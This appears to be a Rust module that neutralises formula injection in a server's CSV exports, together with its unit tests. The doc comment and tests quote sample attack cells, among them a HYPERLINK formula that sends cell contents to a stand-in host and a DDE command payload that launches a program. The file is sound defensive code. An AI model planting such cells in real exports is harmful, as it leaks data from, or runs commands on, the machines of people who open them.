//! Cells of the CSV files the server writes, made safe to open in a spreadsheet.
//!
//! Excel, LibreOffice and Google Sheets read a cell that starts with `=`, `+`, `-` or `@` (and,
//! in some versions, a tab or carriage return) as a formula, so a title typed by a resident,
//! such as `=HYPERLINK("https://evil.example?"&A1, "klik")`, would run in the spreadsheet of
//! whoever opens an export. Such a cell gets a leading `'`, which the spreadsheet shows as
//! text. A cell that reads as a plain number (`-12`, `+3.5`, `-1e3`) is data, not a formula,
//! and stays as it is, so negative figures in open data keep their meaning; so does a lone
//! sign, which no spreadsheet evaluates (the performance tables write `-` for "none").
//!
//! Every CSV the server writes goes through `safe`; a file a producer uploaded is served
//! exactly as uploaded (its published checksum must hold).

use std::borrow::Cow;

/// The cell as it should be written: `'` before anything a spreadsheet would evaluate.
pub fn safe(cell: &str) -> Cow<'_, str> {
    let risky = cell.starts_with(['=', '+', '-', '@', '\t', '\r']);
    if !risky || cell.chars().count() == 1 || is_plain_number(cell) {
        Cow::Borrowed(cell)
    } else {
        Cow::Owned(format!("'{cell}"))
    }
}

/// A whole record through `safe`.
pub fn safe_record<'a, I, S>(cells: I) -> Vec<Cow<'a, str>>
where
    I: IntoIterator<Item = &'a S>,
    S: AsRef<str> + ?Sized + 'a,
{
    cells.into_iter().map(|c| safe(c.as_ref())).collect()
}

/// Writes one record with every cell through `safe`: how the server's CSV writers write.
pub fn write_record<'a, W, I, S>(w: &mut csv::Writer<W>, cells: I) -> csv::Result<()>
where
    W: std::io::Write,
    I: IntoIterator<Item = &'a S>,
    S: AsRef<str> + ?Sized + 'a,
{
    w.write_record(safe_record(cells).iter().map(|c| c.as_bytes()))
}

/// A decimal number and nothing else: an optional sign, digits, an optional fraction and
/// exponent. Not `inf` or `NaN`, which Rust would parse but a spreadsheet would not.
fn is_plain_number(cell: &str) -> bool {
    let body = cell.strip_prefix(['+', '-']).unwrap_or(cell);
    body.starts_with(|c: char| c.is_ascii_digit() || c == '.')
        && body
            .chars()
            .all(|c| c.is_ascii_digit() || matches!(c, '.' | 'e' | 'E' | '+' | '-'))
        && cell.parse::<f64>().is_ok_and(f64::is_finite)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for (cell, written) in [
            ("=1+1", "'=1+1"),
            (
                "=HYPERLINK(\"https://evil.example\",\"klik\")",
                "'=HYPERLINK(\"https://evil.example\",\"klik\")",
            ),
            ("+62 812 1234", "'+62 812 1234"),
            ("-2+3", "'-2+3"),
            ("-1+cmd|' /C calc'!A0", "'-1+cmd|' /C calc'!A0"),
            ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
            ("\t=1", "'\t=1"),
            ("\r=1", "'\r=1"),
            ("-inf", "'-inf"),
            ("-NaN", "'-NaN"),
            ("--1", "'--1"),
            ("-1,5", "'-1,5"),
            ("- jalan rusak", "'- jalan rusak"),
        ] {
            assert_eq!(safe(cell), written, "{cell:?}");
        }
    }

    #[test]
    fn data_stays_as_it_is() {
        for cell in [
            "",
            "-",
            "+",
            "=",
            "12",
            "-12",
            "+12",
            "-3.5",
            "-.5",
            "-1e3",
            "1E-3",
            "-0",
            "Jalan rusak",
            "Kuta = pantai",
            "a-b",
            "0812-3456",
            "'=1",
            " =1",
        ] {
            assert!(matches!(safe(cell), Cow::Borrowed(_)), "{cell:?}");
        }
    }

    #[test]
    fn records() {
        let r = safe_record(["a", "=b", "-1"].iter().copied());
        assert_eq!(r, ["a", "'=b", "-1"]);
        let owned = vec!["@x".to_string()];
        assert_eq!(safe_record(&owned), ["'@x"]);
        let mut w = csv::Writer::from_writer(Vec::new());
        write_record(&mut w, ["@x", "x"].iter().copied()).unwrap();
        write_record(&mut w, ["-1", "=1,2"].iter().copied()).unwrap();
        assert_eq!(w.into_inner().unwrap(), b"'@x,x\n-1,\"'=1,2\"\n");
    }
}
